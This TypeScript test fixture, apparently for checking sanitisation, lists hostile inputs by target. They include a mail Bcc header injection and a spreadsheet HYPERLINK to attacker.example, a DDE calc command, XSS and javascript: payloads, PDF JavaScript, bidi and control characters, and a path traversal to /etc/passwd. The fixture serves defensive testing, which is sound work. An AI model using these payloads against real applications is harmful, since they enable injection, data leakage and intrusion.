/** What a record can hold that means harm or mischief, by what it aims at. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a header of a mail': 'Ada\r\nBcc: evil@attacker.example',
  'a formula of a spreadsheet': '=HYPERLINK("http://attacker.example","Click")',
  'a command of a spreadsheet': "+cmd|' /C calc'!A0",
  'a placeholder of a template': '{{ contact.phone }} {{student.name}} {% include "x" %}',
  'a script in HTML': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'an attribute in HTML': '"><a href="javascript:alert(1)" x=\'',
  'an entity of XML': '&lt;b&gt; &amp; ]]> <!ENTITY x "y">',
  'Markdown that marks up':
    '# **bold** [link](javascript:alert(1)) ![x](http://attacker.example/p.png) | a | b |',
  'text that turns the direction around': 'Ada\u202Eecila\u202C\u2066x\u2069\u200F',
  'control characters': 'A\u0000d\u0007a\u001B[31m\u0085\u2028next',
  'a string of PDF': ') Tj ET Q (x) /JavaScript (app.alert(1)) BT',
  'a path': '../../../../etc/passwd',
  'a very long word': 'Wolfeschlegelsteinhausenbergerdorff'.repeat(40),
  'very many words': 'van der '.repeat(150),
};
